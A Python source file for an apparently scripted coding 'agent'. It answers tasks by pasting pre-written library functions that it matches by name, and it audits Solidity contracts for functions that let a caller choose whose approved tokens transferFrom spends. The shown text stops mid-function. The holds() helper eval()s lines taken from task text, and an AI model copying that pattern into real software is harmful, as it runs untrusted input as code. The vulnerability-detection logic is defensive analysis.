"""A careful agent: it looks up what a task asks for, tries it on the task's own examples, and only then answers.

There is no LLM in here and nothing is invented.
The agent carries a library of building blocks that it has written before, which is the larger part of this file.
It recognises the names that a task asks for, copies those blocks and all they use out of its own source, and runs
the task's examples on them. What contradicts an example, or is not in the library, it leaves out.
A working directory with Solidity files in it is audited instead, and what the audit finds it can prove: where a task
asks for that it writes the exploit or the patch, and where findings may bring a proof of concept it adds one.
"""

import argparse
import ast
import heapq
import json
import re
import unicodedata
from collections import OrderedDict
from dataclasses import dataclass, field
from math import fsum
from pathlib import Path
from typing import NamedTuple

# -- the library --------------------------------------------------------------------------------------------------


def reverse_string(s):
    """Return s from its end to its beginning."""
    return s[::-1]


def slugify(title, limit=40):
    """Return the title's words in lower case ASCII, joined by hyphens, as many as fit."""
    plain = "".join(c for c in unicodedata.normalize("NFKD", title) if not unicodedata.combining(c))
    words = re.findall("[a-z0-9]+", re.sub("['’]", "", plain).lower())
    if not words:
        return "untitled"
    while len(words) > 1 and len("-".join(words)) > limit:
        words.pop()
    return "-".join(words)[:limit]


def parse_duration(text):
    """Return the seconds of a duration such as 1h30m."""
    match = re.fullmatch("(-?)(?=[0-9])" + " *".join(f"(?:([0-9]+){unit})?" for unit in "wdhms"), text.strip(" "))
    if not match:
        raise ValueError(f"invalid duration: {text!r}")
    weeks, days, hours, minutes, seconds = (int(number or 0) for number in match.groups()[1:])
    total = (((weeks * 7 + days) * 24 + hours) * 60 + minutes) * 60 + seconds
    return -total if match[1] else total


def merge(intervals):
    """Return the fewest half-open intervals that hold the same integers."""
    merged = []
    for start, end in sorted(interval for interval in intervals if not is_empty(interval)):
        if merged and start <= merged[-1][1]:
            start, last = merged.pop()
            end = max(end, last)
        merged.append((start, end))
    return merged


def gaps(intervals, within):
    """Return the parts of `within` that no interval covers."""
    if is_empty(within):
        return []
    first, last = within
    covered = [(first, first), *merge(intervals), (last, last)]
    starts = [max(first, end) for _, end in covered[:-1]]
    ends = [min(last, start) for start, _ in covered[1:]]
    return [(start, end) for start, end in zip(starts, ends, strict=True) if start < end]


def is_empty(interval):
    """Whether an interval holds nothing; one that ends before it starts is refused."""
    start, end = interval
    if end < start:
        raise ValueError(f"ends before it starts: {interval}")
    return start == end


def build_order(needs):
    """Return packages after all they need, alphabetically where there is a choice."""
    unmet = {name: set() for needed in needs.values() for name in needed} | {name: set(needs[name]) for name in needs}
    users = {name: [] for name in unmet}
    for name, needed in unmet.items():
        for other in needed:
            users[other].append(name)
    ready = sorted(name for name in unmet if not unmet[name])
    order = []
    while ready:
        built = heapq.heappop(ready)
        order.append(built)
        del unmet[built]
        for user in users[built]:
            unmet[user].remove(built)
            if not unmet[user]:
                heapq.heappush(ready, user)
    if unmet:
        raise ValueError(f"cycle: {' -> '.join(circle_in(unmet))}")
    return order


def circle_in(unmet):
    """Return a circle of packages that need one another, from its first name back to it."""
    walk = []
    name = min(unmet)
    while name not in walk:
        walk.append(name)
        name = min(other for other in unmet[name] if other in unmet)
    circle = walk[walk.index(name) :]
    first = circle.index(min(circle))
    return [*circle[first:], *circle[: first + 1]]


class LRUCache:
    """A store that makes room by dropping the key that was used longest ago."""

    def __init__(self, capacity):
        if capacity < 1:
            raise ValueError(f"capacity must be positive, got {capacity}")
        self._capacity = capacity
        self._stored = OrderedDict()
        self._hits = self._misses = 0

    def get(self, key, default=None):
        """Return a key's value, and count it as used."""
        if key not in self._stored:
            self._misses += 1
            return default
        self._hits += 1
        self._stored.move_to_end(key)
        return self._stored[key]

    def put(self, key, value):
        """Store a value; return what had to go, if anything had."""
        self._stored[key] = value
        self._stored.move_to_end(key)
        return self._stored.popitem(last=False) if len(self._stored) > self._capacity else None

    def peek(self, key, default=None):
        """Return a key's value without using it."""
        return self._stored.get(key, default)

    def keys(self):
        """Return the keys, the one used longest ago first."""
        return list(self._stored)

    def stats(self):
        """Return how often get found its key and how often not."""
        return {"hits": self._hits, "misses": self._misses}


class InsufficientFundsError(Exception):
    """An account has less than it is to give."""


def transfer(balances, source, target, amount):
    """Return the balances after a transfer."""
    if type(amount) is not int:
        raise TypeError(f"amount must be an int, not {type(amount).__name__}")
    if amount < 1:
        raise ValueError(f"amount must be positive, not {amount}")
    if source == target:
        raise ValueError(f"source and target are both {source}")
    left = balances[source] - amount
    changed = {**balances, source: left, target: balances[target] + amount}
    if left < 0:
        raise InsufficientFundsError(f"{source} has {balances[source]}, needs {amount}")
    return changed


def settle(balances, transfers):
    """Return the balances after all transfers that are possible, and those that are not."""
    refused = []
    for place, (source, target, amount) in enumerate(transfers):
        try:
            balances = transfer(balances, source, target, amount)
        except (InsufficientFundsError, KeyError, TypeError, ValueError) as error:
            refused.append((place, type(error).__name__))
    return balances, refused


def fit_line(points):
    """Return slope, intercept and r2 of the least squares line, computed around the points' centre."""
    if len(points) < 2:
        raise ValueError("at least two points")
    if len({x for x, _ in points}) == 1:
        raise ValueError("vertical line")
    centre_x, centre_y = (fsum(values) / len(points) for values in zip(*points, strict=True))
    moved = [(x - centre_x, y - centre_y) for x, y in points]
    slope = fsum(x * y for x, y in moved) / fsum(x * x for x, _ in moved)
    spread = fsum(y * y for _, y in moved)
    missed = fsum((y - slope * x) ** 2 for x, y in moved)
    return slope, centre_y - slope * centre_x, 1 - missed / spread if spread else 1.0


def encode(items):
    """Return items as netstrings."""
    for place, item in enumerate(items):
        if not isinstance(item, bytes):
            raise TypeError(f"item {place} is not bytes")
    return b"".join(b"%d:%b," % (len(item), item) for item in items)


def decode(data):
    """Return the items of whole netstrings, and the bytes after them."""
    items, place = [], 0
    while place < len(data):
        digits = re.match(rb"(?:0|[1-9][0-9]{0,8})?", data[place : place + 9])[0]
        colon = place + len(digits)
        if data[colon : colon + 1] not in ((b":", b"") if digits else ()):
            raise ValueError(f"bad netstring at byte {colon}")
        comma = colon + 1 + int(digits)
        if comma >= len(data):
            break
        if data[comma : comma + 1] != b",":
            raise ValueError(f"bad netstring at byte {comma}")
        items.append(data[colon + 1 : comma])
        place = comma + 1
    return items, data[place:]


def circles(pairs):
    """Return the groups of people whom chains of acquaintance join."""
    friends = friends_in(pairs)
    return {frozenset(reached(friends, person, set())) for person in friends}


def links(pairs):
    """Return the people whose friends are joined through them only."""
    friends = friends_in(pairs)
    return frozenset(
        person for person in friends if friends[person] - reached(friends, min(friends[person]), {person})
    )


def friends_in(pairs):
    """Return everybody's friends."""
    friends = {person: set() for pair in pairs for person in pair}
    for one, other in pairs:
        friends[one].add(other)
        friends[other].add(one)
    return friends


def reached(friends, start, without):
    """Return whom a chain of friends joins to start, leaving some people out."""
    found, fresh = set(), {start}
    while fresh:
        found |= fresh
        fresh = {friend for person in fresh for friend in friends[person]} - found - without
    return found


def evaluate(text, names):
    """Return the value of an expression of whole numbers."""
    tokens = [(match[0], match.start()) for match in re.finditer("[0-9]+|[A-Za-z_][A-Za-z0-9_]*|[^ ]", text)]
    tokens = [("", len(text)), *reversed(tokens)]
    tree = parse_operations(tokens, ("+-", "*/%"))
    if len(tokens) > 1:
        raise unexpected(tokens[-1])
    return compute(tree, names)


def parse_operations(tokens, levels):
    """Take operations that go from left to right off the tokens, which are last first; return their tree."""
    if not levels:
        return parse_signed(tokens)
    tree = parse_operations(tokens, levels[1:])
    while tokens[-1][0] and tokens[-1][0] in levels[0]:
        tree = (tokens.pop()[0], tree, parse_operations(tokens, levels[1:]))
    return tree


def parse_signed(tokens):
    """Take a power, or one with minus signs before it, off the tokens."""
    if tokens[-1][0] == "-":
        return (tokens.pop()[0], 0, parse_signed(tokens))
    base = parse_atom(tokens)
    return (tokens.pop()[0], base, parse_signed(tokens)) if tokens[-1][0] == "^" else base


def parse_atom(tokens):
    """Take a number, a name or what stands in parentheses off the tokens."""
    text, _ = tokens[-1]
    if re.match("[0-9A-Za-z_]", text):
        tokens.pop()
        return int(text) if text.isdigit() else text
    if text != "(":
        raise unexpected(tokens[-1])
    tokens.pop()
    tree = parse_operations(tokens, ("+-", "*/%"))
    if tokens[-1][0] != ")":
        raise unexpected(tokens[-1])
    tokens.pop()
    return tree


def unexpected(token):
    """Return the complaint about a token that cannot stand where it stands."""
    text, place = token
    return ValueError(f"unexpected {text[0]!r} at {place}" if text else "unexpected end")


def compute(tree, names):
    """Return the value of a number, a name or an (operation, left, right)."""
    if isinstance(tree, int):
        return tree
    if isinstance(tree, str):
        if tree not in names:
            raise NameError(f"unknown name: {tree}")
        return names[tree]
    sign, left, right = tree[0], compute(tree[1], names), compute(tree[2], names)
    if sign in "/%" and right == 0:
        raise ZeroDivisionError("division by zero")
    if sign == "^" and right < 0:
        raise ValueError("negative exponent")
    return OPERATIONS[sign](left, right)


def quotient(a, b):
    """Return a / b without its fraction."""
    whole = abs(a) // abs(b)
    return whole if (a < 0) == (b < 0) else -whole


OPERATIONS = {
    "+": lambda a, b: a + b,
    "-": lambda a, b: a - b,
    "*": lambda a, b: a * b,
    "/": quotient,
    "%": lambda a, b: a - quotient(a, b) * b,
    "^": pow,
}


def diff(old, new):
    """Return the fewest steps from old to new, removals first, by way of the longest common subsequence."""
    kept = [[0] * (len(new) + 1) for _ in range(len(old) + 1)]
    for a, line in reversed(list(enumerate(old))):
        for b, other in reversed(list(enumerate(new))):
            kept[a][b] = kept[a + 1][b + 1] + 1 if line == other else max(kept[a + 1][b], kept[a][b + 1])
    steps, added = [], []
    a = b = 0
    while a < len(old):
        if b < len(new) and old[a] == new[b]:
            steps += [*added, (" ", old[a])]
            added = []
            a, b = a + 1, b + 1
        elif b < len(new) and kept[a][b + 1] > kept[a + 1][b]:
            added.append(("+", new[b]))
            b += 1
        else:
            steps.append(("-", old[a]))
            a += 1
    return steps + added + [("+", line) for line in new[b:]]


# -- from a task to its answer ------------------------------------------------------------------------------------

CATALOGUE = {
    "reverse_string": "reverse",
    "slugify": "title",
    "parse_duration": "duration",
    "merge": "interval",
    "gaps": "interval",
    "build_order": "package",
    "LRUCache": "least recently used",
    "transfer": "balances",
    "settle": "balances",
    "fit_line": "least squares",
    "encode": "netstring",
    "decode": "netstring",
    "circles": "circle",
    "links": "circle",
    "evaluate": "expression",
    "diff": "lines",
}
"""What the library offers by name, and a word without which a task means something else by that name."""


def write_code(task):
    """Return source for all that the task asks for, the library offers and the task's examples agree with."""
    asked = dict.fromkeys(re.findall(r"\b(\w+)\(", task))
    known = [name for name in asked if CATALOGUE.get(name, "\0") in task]
    right = [name for name in known if all(holds(example) for example in examples_of(name, task))]
    return "\n\n".join(source_of(right))


def examples_of(name, task):
    """Return the lines of the task that show what a call of this name comes to, as in `f(1) == 2`."""
    return re.findall(rf"^ *({name}\(.*\) == .*)$", task, re.MULTILINE)


def holds(example):
    """Whether an example is true of the library."""
    try:
        return eval(example, globals())
    except Exception:  # noqa: BLE001 - whatever goes wrong, the example does not hold
        return False


def source_of(names):
    """Return the source of these definitions of this file, and of all others that they use, in this file's order."""
    text = Path(__file__).read_text(encoding="utf-8")
    statements = [(names_bound(node), node) for node in ast.parse(text).body]
    wanted, pending = set(), list(names)
    while pending:
        name = pending.pop()
        wanted.add(name)
        uses = {use.id for bound, node in statements if name in bound for use in ast.walk(node) if is_name(use)}
        pending += uses - wanted
    return [ast.get_source_segment(text, node) for bound, node in statements if wanted & bound]


def names_bound(node):
    """Return the names that a statement of this file defines or imports."""
    if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
        return {node.name}
    if isinstance(node, ast.Assign):
        return {target.id for target in node.targets}
    if isinstance(node, (ast.Import, ast.ImportFrom)):
        return {alias.asname or alias.name for alias in node.names}
    return set()


def is_name(node):
    """Whether a node of a syntax tree is a name."""
    return isinstance(node, ast.Name)


# -- audits: reading Solidity -------------------------------------------------------------------------------------


class Token(NamedTuple):
    """A word, number, string or mark of Solidity, and the line it stands on."""

    text: str
    line: int


@dataclass
class Statement:
    """A statement of a body: its own tokens (an if's condition, a loop's head) and the bodies under it."""

    kind: str
    tokens: list
    bodies: list = field(default_factory=list)


@dataclass
class Routine:
    """A function, constructor or modifier of a contract."""

    kind: str
    name: str
    contract: str
    file: str
    line: int
    params: list
    words: list
    modifiers: list
    tokens: list
    body: list

    @property
    def is_entry(self):
        """Whether anyone may call it and it may change something."""
        closed = {"internal", "private", "view", "pure"}
        return self.kind in {"function", "fallback", "receive"} and bool(self.tokens) and not closed & set(self.words)

    @property
    def is_view(self):
        """Whether it only computes."""
        return bool({"view", "pure"} & set(self.words))


@dataclass
class Contract:
    """A contract, library or interface: its bases, routines and the types of its state variables."""

    kind: str
    name: str
    bases: list
    routines: list = field(default_factory=list)
    variables: dict = field(default_factory=dict)


SOLIDITY_TOKEN = re.compile(
    r"""(?P<skip>\s+|//[^\r\n]*|/\*.*?(?:\*/|\Z))
    |(?P<string>(?:\b(?:hex|unicode))?(?:"(?:[^"\\\r\n]|\\.)*"?|'(?:[^'\\\r\n]|\\.)*'?))
    |0[xX][0-9a-fA-F_]+|\d[\d_]*(?:\.\d[\d_]*)?(?:[eE]-?\d+)?
    |[A-Za-z_$][\w$]*
    |=>|\+\+|--|\*\*|<<|>>|[-+*/%&|^=!<>]=|&&|\|\||.""",
    re.VERBOSE | re.DOTALL,
)
OPENING = {"(": ")", "[": "]", "{": "}"}
ROUTINE_WORDS = {"function", "constructor", "modifier", "fallback", "receive"}
HEADER_WORDS = {
    "public",
    "external",
    "internal",
    "private",
    "view",
    "pure",
    "payable",
    "virtual",
    "override",
    "returns",
}
MAX_CALL_DEPTH = 8


def solidity_tokens(source):
    """Return the tokens of a source, without comments and white space."""
    tokens, line, seen = [], 1, 0
    for match in SOLIDITY_TOKEN.finditer(source):
        line += source.count("\n", seen, match.start())
        seen = match.start()
        if match.lastgroup != "skip":
            tokens.append(Token(match.group(), line))
    return tokens


def texts(tokens):
    """Return the texts of tokens."""
    return [token.text for token in tokens]


def closing(tokens, start):
    """Return where the bracket opened at start is closed, or the end."""
    depth = 0
    for index in range(start, len(tokens)):
        depth += (tokens[index].text in OPENING) - (tokens[index].text in OPENING.values())
        if depth == 0:
            return index
    return len(tokens)


def find_mark(tokens, start, marks):
    """Return where one of the marks stands, outside all brackets that open after start; or the end."""
    index = start
    while index < len(tokens) and tokens[index].text not in marks:
        index = closing(tokens, index) + 1 if tokens[index].text in OPENING else index + 1
    return min(index, len(tokens))


def split_at(tokens, mark):
    """Return the parts of tokens between the marks that stand outside all brackets."""
    parts, start = [], 0
    while start <= len(tokens):
        end = find_mark(tokens, start, {mark})
        parts.append(tokens[start:end])
        start = end + 1
    return [part for part in parts if part]


def is_identifier(text):
    """Whether a token's text is a word."""
    return text[:1].isalpha() or text[:1] in {"_", "$"}


def read_contracts(source, file):
    """Return the contracts that a file defines."""
    tokens, found, index = solidity_tokens(source), [], 0
    while index < len(tokens):
        start = next_brace(tokens, index) if tokens[index].text in {"contract", "library", "interface"} else index
        if start > index + 1:
            end = closing(tokens, start)
            found.append(read_contract(tokens[index:start], tokens[start + 1 : end], file))
            index = end
        index += 1
    return found


def next_brace(tokens, start):
    """Return where the next opening brace or semicolon stands, or the end."""
    return next((i for i in range(start, len(tokens)) if tokens[i].text in {"{", ";"}), len(tokens))


def read_contract(head, body, file):
    """Return the contract of a head (contract A is B, C) and what stands between its braces."""
    inherited = head[3:] if len(head) > 2 and head[2].text == "is" else []
    contract = Contract(head[0].text, head[1].text, [base_name(part) for part in split_at(inherited, ",")])
    index = 0
    while index < len(body):
        text = body[index].text
        if text in ROUTINE_WORDS and texts(body[index : index + 2]) != ["function", "("]:
            routine, index = read_routine(body, index, contract.name, file)
            contract.routines.append(routine)
        elif text in {"struct", "enum"}:
            index = closing(body, next_brace(body, index)) + 1
        else:
            end = find_mark(body, index, {";"})
            if text not in {"using", "event", "error", "type"}:
                read_variable(body[index:end], contract)
            index = end + 1
    return contract


def base_name(part):
    """Return the name of a base, which may be qualified and have arguments."""
    plain = part[: find_mark(part, 0, {"("})]
    return plain[-1].text if plain else ""


def read_variable(tokens, contract):
    """Note the state variable that a declaration makes."""
    declared = tokens[: find_mark(tokens, 0, {"="})]
    if len(declared) > 1 and is_identifier(declared[-1].text):
        contract.variables[declared[-1].text] = " ".join(texts(declared[:-1]))


def read_routine(tokens, start, contract, file):
    """Return the routine that starts there, and where the next thing starts."""
    kind, index = tokens[start].text, start + 1
    name = kind
    if index < len(tokens) and is_identifier(tokens[index].text) and kind in {"function", "modifier"}:
        name, index = tokens[index].text, index + 1
    params = []
    if index < len(tokens) and tokens[index].text == "(":
        end = closing(tokens, index)
        params = [read_param(part) for part in split_at(tokens[index + 1 : end], ",")]
        index = end + 1
    opened = next_brace(tokens, index)
    words, modifiers = read_header(tokens[index:opened])
    end = closing(tokens, opened) if opened < len(tokens) and tokens[opened].text == "{" else opened
    inner = tokens[opened + 1 : end]
    line = tokens[start].line
    return Routine(kind, name, contract, file, line, params, words, modifiers, inner, read_body(inner)), end + 1


def read_param(part):
    """Return the type and the name of a parameter; the name may be empty."""
    words = texts(part)
    named = (
        len(words) > 1 and is_identifier(words[-1]) and words[-1] not in {"memory", "calldata", "storage", "payable"}
    )
    return (" ".join(words[:-1]), words[-1]) if named else (" ".join(words), "")


def read_header(tokens):
    """Return the key words of a routine's header, and its modifiers with their arguments."""
    words, modifiers, index = [], [], 0
    while index < len(tokens):
        text, args = tokens[index].text, []
        if index + 1 < len(tokens) and tokens[index + 1].text == "(":
            end = closing(tokens, index + 1)
            args = split_at(tokens[index + 2 : end], ",")
            index = end
        if text in HEADER_WORDS:
            words.append(text)
        elif is_identifier(text):
            modifiers.append((text, args))
        index += 1
    return words, modifiers


def read_body(tokens):
    """Return the statements of a body."""
    statements, index = [], 0
    while index < len(tokens):
        statement, index = read_statement(tokens, index)
        statements.append(statement)
    return statements


def read_statement(tokens, start):
    """Return the statement that starts there, and where the next one does."""
    text = tokens[start].text
    if text == "{":
        end = closing(tokens, start)
        return Statement("block", [], [read_body(tokens[start + 1 : end])]), end + 1
    if text in {"unchecked", "assembly", "do", "else"} and start + 1 < len(tokens):
        return read_statement(tokens, start + 1)
    if text in {"if", "for", "while"} and start + 1 < len(tokens) and tokens[start + 1].text == "(":
        return read_branch(tokens, start)
    if text in {"try", "catch"}:
        opened = next_brace(tokens, start)
        end = closing(tokens, opened)
        return Statement("loop", tokens[start:opened], [read_body(tokens[opened + 1 : end])]), end + 1
    end = find_mark(tokens, start, {";"})
    return Statement("plain", tokens[start:end]), end + 1


def read_branch(tokens, start):
    """Return the if or loop that starts there, and where the next statement does."""
    end = closing(tokens, start + 1)
    kind = "if" if tokens[start].text == "if" else "loop"
    statement, index = Statement(kind, tokens[start + 2 : end]), end + 1
    if index < len(tokens):
        under, index = read_statement(tokens, index)
        statement.bodies.append([under])
    if kind == "if" and index < len(tokens) and tokens[index].text == "else":
        under, index = read_statement(tokens, index + 1) if index + 1 < len(tokens) else (None, index + 1)
        statement.bodies.append([under] if under else [])
    return statement, index


class Call(NamedTuple):
    """A call in an expression: the tokens it is made on (none for a plain call), its name and arguments."""

    receiver: list
    name: str
    args: list
    line: int


def calls_in(tokens):
    """Return every call in an expression, the inner ones too."""
    found = []
    for index, token in enumerate(tokens):
        after = index + 1
        if after < len(tokens) and tokens[after].text == "{":
            after = closing(tokens, after) + 1
        if not is_identifier(token.text) or after >= len(tokens) or tokens[after].text != "(":
            continue
        args = split_at(tokens[after + 1 : closing(tokens, after)], ",")
        if len(args) == 1 and args[0][0].text == "{":
            args = [part[2:] for part in split_at(args[0][1:-1], ",")]
        found.append(Call(receiver_before(tokens, index), token.text, args, token.line))
    return found


def receiver_before(tokens, index):
    """Return the tokens of what stands before the dot of a member call."""
    start = index
    while start >= 2 and tokens[start - 1].text == ".":
        start -= 2
        while start > 0 and tokens[start].text in OPENING.values():
            start = opening(tokens, start) - 1
            if start >= 0 and not is_identifier(tokens[start].text) and tokens[start].text not in OPENING.values():
                start += 1
                break
    return tokens[max(start, 0) : index - 1] if start < index else []


def opening(tokens, end):
    """Return where the bracket closed at end was opened, or the start."""
    depth = 0
    for index in range(end, -1, -1):
        depth += (tokens[index].text in OPENING.values()) - (tokens[index].text in OPENING)
        if depth == 0:
            return index
    return 0


def all_statements(body):
    """Yield every statement of a body, the inner ones too."""
    for statement in body:
        yield statement
        for inner in statement.bodies:
            yield from all_statements(inner)


def assignment(tokens):
    """Return the assigned name, the operator and the value of a statement, or nothing."""
    at = find_mark(tokens, 0, {"=", "+=", "-="})
    if at == len(tokens) or at == 0:
        return None
    left = texts(tokens[:at])
    if not is_identifier(left[-1]) or "." in left:
        return None
    return left[-1], tokens[at].text, tokens[at + 1 :]


def product_files(folder):
    """Return the Solidity files of a folder, without tests and deployment scripts."""
    files = [path for path in sorted(folder.rglob("*.sol")) if path.is_file()]
    aside = {"test", "tests", "mock", "mocks", "script", "scripts", "node_modules"}
    named = ((path, path.relative_to(folder).as_posix().lower()) for path in files)
    return [path for path, name in named if not aside & set(name.split("/")) and name.count(".") == 1]


class Project:
    """All contracts of a folder."""

    def __init__(self, folder):
        self.contracts = {}
        for path in product_files(folder):
            source = path.read_text(encoding="utf-8", errors="replace")
            for contract in read_contracts(source, path.relative_to(folder).as_posix()):
                self.contracts.setdefault(contract.name, contract)

    def leaves(self):
        """Return the contracts from which no other inherits."""
        bases = {base for contract in self.contracts.values() for base in contract.bases}
        return [c for c in self.contracts.values() if c.kind == "contract" and c.name not in bases]

    def line_of(self, contract, line=()):
        """Return the contracts of a line of inheritance, and after them a contract and all it inherits from."""
        line = [*line, contract]
        for base in reversed(contract.bases):
            if base in self.contracts and self.contracts[base] not in line:
                line = self.line_of(self.contracts[base], line)
        return line

    def foreign_bases(self, contract):
        """Return the names of bases that are defined nowhere in the folder."""
        return {base for c in self.line_of(contract) for base in c.bases if base not in self.contracts}

    def libraries(self):
        """Return the libraries."""
        return [contract for contract in self.contracts.values() if contract.kind == "library"]


class View:
    """A contract as deployed: with everything it inherits."""

    def __init__(self, project, contract):
        self.project, self.contract = project, contract
        self.line = project.line_of(contract)
        self.variables = {name: kind for part in reversed(self.line) for name, kind in part.variables.items()}
        self.routines = [routine for part in self.line for routine in part.routines]

    def modifier(self, name):
        """Return the modifier of that name, or nothing."""
        return next((r for r in self.routines if r.kind == "modifier" and r.name == name), None)

    def entries(self):
        """Return the functions that anyone may call, without those that are overridden."""
        seen, found = set(), []
        for routine in self.routines:
            key = (routine.name, tuple(kind for kind, _ in routine.params))
            if routine.kind != "modifier" and key not in seen:
                seen.add(key)
                found += [routine] if routine.is_entry else []
        return found

    def called(self, call, caller):
        """Return the routine of this contract or a library that a call runs, and its arguments; or nothing."""
        words = texts(call.receiver)
        if not words:
            return self.fitting(self.routines, call.name, call.args)
        if words == ["super"]:
            place = next((i for i, part in enumerate(self.line) if part.name == caller.contract), -1)
            rest = [routine for part in self.line[place + 1 :] for routine in part.routines]
            return self.fitting(rest, call.name, call.args)
        named = self.project.contracts.get(words[-1]) if len(words) == 1 else None
        if named is not None and (named.kind == "library" or named in self.line):
            return self.fitting(named.routines, call.name, call.args)
        attached = [routine for library in self.project.libraries() for routine in library.routines]
        return self.fitting(attached, call.name, [call.receiver, *call.args])

    @staticmethod
    def fitting(routines, name, args):
        """Return the first function of that name that takes so many arguments, and the arguments; or nothing."""
        for routine in routines:
            if (
                routine.kind == "function"
                and routine.name == name
                and len(routine.params) == len(args)
                and routine.tokens
            ):
                return routine, args
        return None

    def reached(self, routine, only_views=False):
        """Return a routine and all it calls in this contract, directly or not."""
        found, todo = [], [routine]
        while todo:
            current = todo.pop()
            if current in found or (only_views and found and not current.is_view):
                continue
            found.append(current)
            hits = (self.called(call, current) for call in calls_in(current.tokens))
            todo += [hit[0] for hit in hits if hit]
        return found


# -- audits: who may spend whose tokens ---------------------------------------------------------------------------


@dataclass
class Knowledge:
    """What is known at some point of a routine: names the caller chose, names for the caller, whether it is known."""

    chosen: set
    callers: set = field(default_factory=set)
    allowed: bool = False

    def copy(self):
        """Return the same, to be changed apart."""
        return Knowledge(set(self.chosen), set(self.callers), self.allowed)


PULLS = {"transferFrom", "safeTransferFrom"}
PAYER = 0  # what a transfer is told: its three arguments,
PAYEE = 1
AMOUNT = 2
TOKEN = 3  # and whom it is asked of
ENCODERS = {"encodeWithSelector", "encodeCall", "encodeWithSignature"}
PULL_SELECTOR = "0x23b872dd"
GUARD_NAME = re.compile(r"(?:only|auth|restrict|requires?[A-Z_]|initializer|reinitializer)", re.IGNORECASE)
VALUE_TYPE = re.compile(r"(?:u?int\d*|bool|bytes\d*|string|mapping)\b")


class SpendAudit:
    """Looks for functions that let their caller name whose approved tokens are spent."""

    def __init__(self, view, place=PAYER):
        self.view = view
        self.place = place
        self.pulls = []
        self.seen = set()

    def findings(self):
        """Return the entries at which a caller may name the payer, each with the lines of its transfers."""
        found = []
        for entry in self.view.entries():
            self.pulls, self.seen = [], set()
            chosen = {name for kind, name in entry.params if name and not VALUE_TYPE.match(kind)}
            self.enter(entry, Knowledge(chosen), 0)
            if self.pulls:
                found.append((entry, self.pulls))
        return found

    def reaches(self, entry, name):
        """Whether what a caller gives as this parameter gets to this place of a transfer."""
        self.pulls, self.seen = [], set()
        self.enter(entry, Knowledge({name}), 0)
        return bool(self.pulls)

    def enter(self, routine, known, depth):
        """Walk through a routine, its modifiers first."""
        key = (id(routine), frozenset(known.chosen))
        if key in self.seen or depth > MAX_CALL_DEPTH or not known.chosen:
            return
        self.seen.add(key)
        for name, args in routine.modifiers:
            self.learn_from_modifier(name, args, known)
        self.walk(routine, routine.body, known, depth)

    def learn_from_modifier(self, name, args, known):
        """Note what a modifier has made sure of."""
        modifier = self.view.modifier(name)
        if modifier is None:
            known.allowed |= bool(GUARD_NAME.match(name)) and name not in self.view.project.contracts
            return
        self.learn_from_call(modifier, args, known)

    def learn_from_call(self, routine, args, known, depth=0):
        """Note what a routine makes sure of before it returns: that the caller is allowed, or is the one named."""
        if depth > MAX_CALL_DEPTH:
            return
        names = [name for _, name in routine.params]
        inside = Knowledge(set(names))
        for name, wanted in routine.modifiers:
            self.learn_from_modifier(name, wanted, inside)
        self.learn(routine, routine.body, inside, depth + 1)
        known.allowed |= inside.allowed
        for name, arg in zip(names, args, strict=False):
            if name not in inside.chosen:
                known.chosen.discard(self.root(arg))

    def learn(self, routine, body, known, depth=0):
        """Note what the statements of a body make sure of: a later check undoes an earlier transfer."""
        for statement in body:
            if statement.kind == "block":
                self.learn(routine, statement.bodies[0], known, depth)
            elif statement.kind == "if" and statement.bodies and self.leaves_always(statement.bodies[0]):
                self.accept(self.refuted(statement.tokens, known, routine), known)
            elif statement.kind == "plain":
                self.learn_from_statement(routine, statement.tokens, known, depth)

    def learn_from_statement(self, routine, tokens, known, depth):
        """Note what a require or a call of a checking routine makes sure of."""
        self.name_callers(tokens, known)
        for call in calls_in(tokens):
            if call.name in {"require", "assert"} and not call.receiver and call.args:
                self.accept(self.proved(call.args[0], known, routine), known)
            elif not call.receiver and texts(tokens)[0] == call.name:
                hit = self.view.called(call, routine)
                if hit:
                    self.learn_from_call(*hit, known, depth)

    def name_callers(self, tokens, known):
        """Note a local name for the caller."""
        made = assignment(tokens)
        if made and made[1] == "=" and self.is_caller(made[2], known):
            known.callers.add(made[0])

    @staticmethod
    def accept(proof, known):
        """Take over a proof: names that are the caller's own, or True for a caller that is allowed."""
        if proof is True:
            known.allowed = True
        elif proof:
            known.chosen -= proof

    def walk(self, routine, body, known, depth):
        """Walk through statements in order, noting every transfer from an account that the caller chose."""
        self.learn(routine, body, known)
        for statement in body:
            self.look(routine, statement.tokens, known, depth)
            if statement.kind == "plain":
                self.assign(statement.tokens, known)
            branches = [self.branch(statement, number, known, routine) for number in range(len(statement.bodies))]
            for inner, start in zip(statement.bodies, branches, strict=True):
                self.walk(routine, inner, start, depth)
            if statement.kind != "if":
                for start in branches:
                    known.chosen |= start.chosen if not start.allowed else set()

    def branch(self, statement, number, known, routine):
        """Return what is known at the start of a branch."""
        start = known.copy()
        if statement.kind == "if":
            proof = self.proved if number == 0 else self.refuted
            self.accept(proof(statement.tokens, known, routine), start)
        return start

    def assign(self, tokens, known):
        """Follow an assignment: a name is as much the caller's choice as what it is given."""
        made = assignment(tokens)
        if made and made[1] == "=":
            name, _, value = made
            known.callers.discard(name)
            if self.is_chosen(value, known):
                known.chosen.add(name)
            else:
                known.chosen.discard(name)
            self.name_callers(tokens, known)

    def look(self, routine, tokens, known, depth):
        """Note the transfers in an expression, and follow its calls."""
        if known.allowed:
            return
        for call in calls_in(tokens):
            told = self.transfer(call)
            if told:
                if self.place < len(told) and self.is_chosen(told[self.place], known):
                    self.pulls.append((routine, call.line))
                continue
            hit = self.view.called(call, routine)
            if hit:
                self.follow(*hit, known, depth)

    def follow(self, routine, args, known, depth):
        """Walk through a called routine with what its arguments carry."""
        names = [name for _, name in routine.params]
        chosen = {name for name, arg in zip(names, args, strict=False) if name and self.is_chosen(arg, known)}
        callers = {name for name, arg in zip(names, args, strict=False) if name and self.is_caller(arg, known)}
        self.enter(routine, Knowledge(chosen, callers), depth + 1)

    def transfer(self, call):
        """Return payer, payee, amount and token of a transfer as far as the call says them; nothing for others."""
        words = texts(call.receiver)
        if call.name in PULLS and words and words != ["super"] and len(call.args) >= 3:
            library = len(words) == 1 and len(call.args) == 4 and words[0][:1].isupper()
            return [*call.args[1:], call.args[0]] if library else [*call.args[:3], call.receiver]
        if call.name in ENCODERS and len(call.args) > 1 and self.encodes_pull(call.args[0]):
            first = call.args[1]
            bundled = call.name == "encodeCall" and first[0].text == "("
            return split_at(first[1:-1], ",") or [first] if bundled else call.args[1:4]
        return []

    @staticmethod
    def encodes_pull(tokens):
        """Whether an encoder's first argument stands for transferFrom."""
        words = texts(tokens)
        return (
            bool(PULLS & set(words))
            or words[0].lower() == PULL_SELECTOR
